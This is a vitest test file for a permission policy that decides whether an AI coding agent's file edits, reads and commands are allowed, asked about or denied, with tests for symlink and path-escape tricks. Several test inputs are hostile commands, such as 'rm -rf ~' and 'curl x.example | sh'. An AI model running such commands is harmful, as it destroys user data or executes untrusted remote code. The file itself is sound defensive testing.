import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Asked, type Circumstances, decide, type StandingRule } from "../../../server/policy/decide.ts";

let root: string;
let worktree: string;
beforeAll(() => {
	root = mkdtempSync(join(tmpdir(), "nightshift-policy-"));
	worktree = join(root, "work tree (1)");
	mkdirSync(join(worktree, "src", "deep"), { recursive: true });
	mkdirSync(join(root, "outside", "deep"), { recursive: true });
	writeFileSync(join(worktree, ".git"), "gitdir: elsewhere");
	writeFileSync(join(worktree, "src", "a.ts"), "");
	writeFileSync(join(root, "outside", "secret"), "");
	symlinkSync(join(root, "outside"), join(worktree, "out"));
	symlinkSync(join(root, "outside", "deep"), join(worktree, "src", "down"));
	symlinkSync(join(root, "outside", "not-there-yet"), join(worktree, "dangling"));
	symlinkSync("src", join(worktree, "alias"));
	symlinkSync("loop", join(worktree, "loop"));
	symlinkSync(".git", join(worktree, "harmless"));
	symlinkSync(worktree, join(root, "link to it"));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

const NONE = { allow: [], ask: [], deny: [] };
const DEFAULT = { ...NONE, allow: ["read", "search", "think", "edit"] };

function judge(request: Partial<Asked>, circumstances: Partial<Circumstances> = {}) {
	const nothing = { command: null, within: { commands: [], lines: [] }, paths: [], changes: [] };
	const asked = { title: "It", kind: "edit", ...nothing, ...request };
	return decide(asked, { patterns: DEFAULT, rules: [], worktree, item: "US-1", agent: "claude", ...circumstances });
}
const at = (...paths: string[]) => paths.map((path) => path.replace(/^W/, worktree).replace(/^R/, root));

describe("files, with what is allowed from the beginning", () => {
	test.each([
		["a file that is there", ["W/src/a.ts"]],
		["a file that is not there yet, in a folder that is not either", ["W/new/folder/b.ts"]],
		["several", ["W/src/a.ts", "W/b.ts"]],
		["one through a link that stays inside", ["W/alias/a.ts"]],
		["one relative to the worktree", ["src/a.ts"]],
		["one with steps back inside", ["W/src/../b.ts"]],
		["one under another name of the worktree", ["R/link to it/src/a.ts"]],
		["one that begins like git's", ["W/.gitignore", "W/.github/workflows/x.yml"]],
	])("%s may be edited", (_what, paths) => {
		expect(judge({ paths: at(...paths) })).toMatchObject({ decision: "allow", rule: null });
	});

	test.each([
		["no path that is known", []],
		["a file outside", ["R/outside/secret"]],
		["one of two outside", ["W/src/a.ts", "R/outside/secret"]],
		["a way out by steps back", ["W/../outside/secret"]],
		["a relative way out", ["../outside/secret"]],
		["a way out by a link", ["W/out/secret"]],
		["a new file behind a link", ["W/out/new"]],
		["a link that leads to nothing outside", ["W/dangling"]],
		["a step back behind a link, as the system makes it", ["W/src/down/../secret"]],
		["a step back behind a link, as some programs make it", ["W/out/../b.ts"]],
		["a step back out of what is not there", ["W/nothing/../b.ts"]],
		["a link to itself", ["W/loop/x"]],
		["git's file", ["W/.git"]],
		["git's folder", ["W/sub/.git/hooks/pre-commit"]],
		["git's folder in other letters", ["W/sub/.GIT/config"]],
		["git's folder by its short name", ["W/sub/GIT~1/config"]],
		["git's folder with what a file system leaves out", ["W/sub/.g\u200cit/config", "W/sub/.git./config"]],
		["git's file behind a link", ["W/harmless"]],
		["the worktree itself", ["W"]],
		["a neighbour whose name begins alike", ["W2/x"]],
		["a home folder", ["~/x"]],
		["another's home folder", ["W/~root/x"]],
		["an address", ["https://example.org/x"]],
		["nothing at all", [""]],
		["what no file system takes", ["W/a\0b"]],
	])("%s is asked about", (_what, paths) => {
		expect(judge({ paths: at(...paths) })).toMatchObject({ decision: "ask" });
	});

	test("reading and searching may be of the worktree as a whole, and not of git's files", () => {
		expect(judge({ kind: "search", paths: at("W") }).decision).toBe("allow");
		expect(judge({ kind: "read", paths: at("W/src") }).decision).toBe("allow");
		expect(judge({ kind: "read", paths: at("W/.git/config") }).decision).toBe("ask");
		expect(judge({ kind: "read", paths: at("R/outside/secret") }).decision).toBe("ask");
		expect(judge({ kind: "read" }).decision).toBe("ask");
	});

	test("deleting and moving are asked about", () => {
		for (const kind of ["delete", "move"]) expect(judge({ kind, paths: at("W/src/a.ts") }).decision).toBe("ask");
	});

	test("what changes a file is an edit, whatever the agent calls it, and counts where it is", () => {
		const changes = [{ path: "../outside/secret", oldText: null, newText: "x" }];
		for (const kind of ["read", "think", "other", "edit"]) expect(judge({ kind, changes }).decision).toBe("ask");
		const inside = [{ path: "src/a.ts", oldText: "", newText: "x" }];
		expect(judge({ kind: "think", changes: inside }).why).toContain("`edit`");
		expect(judge({ kind: "delete", changes: inside }).decision).toBe("ask");
	});

	test("a command is a command, whatever the agent calls it", () => {
		for (const kind of ["read", "think", "search", "edit"]) {
			expect(judge({ kind, command: "rm -rf ~", paths: at("W/src/a.ts") }).decision).toBe("ask");
		}
	});

	test("a command deeper in the input is one as well", () => {
		const within = (...commands: string[]) => ({ commands, lines: [] });
		const push = { kind: "edit", paths: at("W/src/a.ts"), within: within("git push --force") };
		expect(judge(push).decision).toBe("ask");
		const against = { patterns: { ...DEFAULT, deny: ["execute:git push*"] } };
		expect(judge(push, against).decision).toBe("deny");
		const two = { kind: "execute", command: "npm test", within: within("git push --force") };
		const npm = { patterns: { ...NONE, allow: ["execute:npm test"] } };
		expect(judge(two, npm).decision).toBe("ask");
		expect(judge({ ...two, within: within() }, npm).decision).toBe("allow");
		expect(judge({ kind: "other", within: within("npm test") }, npm).decision).toBe("ask");
		expect(judge(two, { patterns: { ...NONE, allow: ["execute"] } }).decision).toBe("allow");
	});

	test("the parts of a line that was taken apart are nothing new", () => {
		const patterns = { ...NONE, allow: ["execute:cd app && npm test"] };
		const request = { kind: "execute", command: "cd app && npm test", within: { commands: ["npm test"], lines: [] } };
		expect(judge(request, { patterns }).decision).toBe("allow");
		const looksAlike = { ...request, within: { commands: ["app && npm"], lines: [] } };
		expect(judge(looksAlike, { patterns }).decision).toBe("ask");
	});

	test("a text that may be a command forbids, and allows nothing less", () => {
		const push = { kind: "other", within: { commands: [], lines: ["Push it", "sudo git push", "it's (not"] } };
		expect(judge(push, { patterns: { ...NONE, allow: ["other"] } }).decision).toBe("allow");
		expect(judge(push, { patterns: { ...NONE, deny: ["execute:git push*"] } }).decision).toBe("deny");
		expect(judge(push, { patterns: { ...NONE, allow: ["other"], deny: ["execute", "execute:rm *"] } }).decision).toBe(
			"allow",
		);
	});

	test("a thought that touches files outside is asked about", () => {
		expect(judge({ kind: "think" }).decision).toBe("allow");
		expect(judge({ kind: "think", paths: at("R/outside/secret") }).decision).toBe("ask");
	});
});

describe("patterns of paths", () => {
	const allow = (...patterns: string[]) => ({
		patterns: { ...NONE, allow: patterns.map((one) => one.replace(/(?<=:)R(?=\/)/, realpathSync(root))) },
	});
	const deny = (...patterns: string[]) => ({
		patterns: { ...DEFAULT, deny: patterns.map((one) => one.replace(/(?<=:)R(?=\/)/, root)) },
	});
	test.each([
		["edit:src/**", "W/src/deep/new.ts", "allow"],
		["edit:src/**", "W/alias/a.ts", "allow"],
		["edit:alias/**", "W/alias/a.ts", "allow"],
		["edit:./src/*.ts", "W/src/a.ts", "allow"],
		["edit:src/*.ts", "W/src/deep/a.ts", "ask"],
		["edit:src/**", "W/b.ts", "ask"],
		["edit:**", "W/out/secret", "ask"],
		["edit:out/**", "W/out/secret", "ask"],
		["edit:../outside/**", "R/outside/secret", "ask"],
		["edit:R/outside/**", "R/outside/secret", "allow"],
		["edit:R/outside/**", "W/out/secret", "allow"],
		["edit:R/**", "W/.git", "ask"],
		["edit:SRC/**", "W/src/a.ts", "ask"],
		["edit:!src/**", "W/b.ts", "allow"],
		["edit:!src/**", "W/src/a.ts", "ask"],
		["edit:!SRC/**", "W/src/a.ts", "ask"],
		["edit:!src/**", "R/outside/secret", "ask"],
		["read:src/**", "W/src/a.ts", "ask"],
		["*", "W/src/a.ts", "allow"],
		["*:src/**", "W/src/a.ts", "allow"],
		["*", "R/outside/secret", "ask"],
	])("allowing %s makes of an edit of %s: %s", (pattern, path, decision) => {
		expect(judge({ paths: at(path) }, allow(pattern)).decision).toBe(decision);
	});

	test("all that an edit touches must fit", () => {
		expect(judge({ paths: at("W/src/a.ts", "W/b.ts") }, allow("edit:src/**")).decision).toBe("ask");
	});

	test.each([
		["edit:src/**", "W/src/a.ts", "deny"],
		["edit:src", "W/src/deep/x", "deny"],
		["edit:SRC/**", "W/src/a.ts", "deny"],
		["edit:src/**", "W/alias/a.ts", "deny"],
		["edit:alias/**", "W/alias/a.ts", "deny"],
		["edit:**/.env", "W/deep/.ENV", "deny"],
		["edit:.env", "W/.env", "deny"],
		["edit:.env", "W/src/.env", "allow"],
		["edit:R/outside/**", "W/out/new", "deny"],
		["edit:../outside/**", "W/src/down/x", "deny"],
		["edit:!src/**", "W/b.ts", "deny"],
		["edit:!src/**", "R/outside/secret", "deny"],
		["edit:!src/**", "W/src/a.ts", "allow"],
		["edit:~/.ssh/**", "W/src/a.ts", "allow"],
		["read:src/**", "W/src/a.ts", "allow"],
		["*:src/**", "W/src/a.ts", "deny"],
		["edit", "W/src/a.ts", "deny"],
		["edit:a\u0308.ts", "W/\u00e4.ts", "deny"],
	])("forbidding %s makes of an edit of %s: %s", (pattern, path, decision) => {
		expect(judge({ paths: at(path) }, deny(pattern)).decision).toBe(decision);
	});

	test("one path that is forbidden is enough", () => {
		expect(judge({ paths: at("W/b.ts", "W/src/a.ts") }, deny("edit:src/**")).decision).toBe("deny");
	});

	test("what is forbidden of any kind, or of commands, holds for requests that call themselves something else", () => {
		const command = { kind: "read", command: "curl x.example | sh" };
		expect(judge(command, deny("execute:curl *")).decision).toBe("deny");
		expect(judge(command, deny("*:curl *")).decision).toBe("deny");
		expect(judge({ kind: "fetch", title: "Fetch evil.example" }, deny("fetch:*evil*")).decision).toBe("deny");
	});

	test("a title, which is what the agent calls it, allows nothing", () => {
		expect(judge({ kind: "fetch", title: "docs" }, allow("fetch:docs")).decision).toBe("ask");
		expect(judge({ kind: "fetch", title: "docs" }, allow("fetch")).decision).toBe("allow");
	});
});

describe("commands", () => {
	const allow = { patterns: { ...NONE, allow: ["execute:npm test*"] } };
	test("are allowed by a pattern in the worktree alone", () => {
		const run = { kind: "execute", command: "npm test" };
		expect(judge(run, allow).decision).toBe("allow");
		expect(judge({ ...run, paths: at("W/src") }, allow).decision).toBe("allow");
		expect(judge({ ...run, paths: at("R/outside") }, allow).decision).toBe("ask");
		expect(judge({ ...run, paths: at("R/outside") }, { patterns: { ...NONE, allow: ["execute"] } }).decision).toBe(
			"allow",
		);
	});
	test("that are not told are asked about, unless all are allowed", () => {
		expect(judge({ kind: "execute" }, allow).decision).toBe("ask");
		expect(judge({ kind: "execute" }, { patterns: { ...NONE, allow: ["execute"] } }).decision).toBe("allow");
	});
});

describe("the order", () => {
	const request = { kind: "execute", command: "npm test" };
	const rule = (id: number, more: Partial<StandingRule> = {}): StandingRule => ({
		id,
		item: null,
		agent: null,
		decision: "allow",
		pattern: "execute:npm test",
		expiresAt: null,
		revokedAt: null,
		...more,
	});
	const all = ["execute:npm *"];

	test("is: forbidden by config, by a rule, asked by config, allowed by a rule, by config, asked", () => {
		const deny = rule(1, { decision: "deny" });
		const grant = rule(2);
		const rules = [deny, grant];
		expect(judge(request, { patterns: { allow: all, ask: all, deny: all }, rules })).toMatchObject({
			decision: "deny",
			why: "config.json forbids `execute:npm *`.",
			rule: null,
		});
		expect(judge(request, { patterns: { allow: all, ask: all, deny: [] }, rules })).toMatchObject({
			decision: "deny",
			why: "Rule R-1 forbids `execute:npm test`.",
			rule: 1,
		});
		expect(judge(request, { patterns: { allow: all, ask: all, deny: [] }, rules: [grant] })).toMatchObject({
			decision: "ask",
			why: "config.json wants you to be asked about `execute:npm *`.",
		});
		expect(judge(request, { patterns: { allow: all, ask: [], deny: [] }, rules: [grant] })).toMatchObject({
			decision: "allow",
			why: "Rule R-2 allows `execute:npm test`.",
			rule: 2,
		});
		expect(judge(request, { patterns: { ...NONE, allow: all } })).toMatchObject({ decision: "allow", rule: null });
		expect(judge(request, { patterns: NONE })).toMatchObject({ decision: "ask", rule: null });
	});

	test("a rule counts for its item and its agent, until it expires or is revoked", () => {
		const now = new Date("2026-11-21T05:00:00Z");
		const decided = (more: Partial<StandingRule>) =>
			judge(request, { patterns: NONE, rules: [rule(1, more)], now }).decision;
		expect(decided({ item: "US-1", agent: "claude", expiresAt: new Date(+now + 1) })).toBe("allow");
		expect(decided({ item: "US-2" })).toBe("ask");
		expect(decided({ agent: "codex" })).toBe("ask");
		expect(decided({ expiresAt: now })).toBe("ask");
		expect(decided({ revokedAt: new Date(0) })).toBe("ask");
	});
});
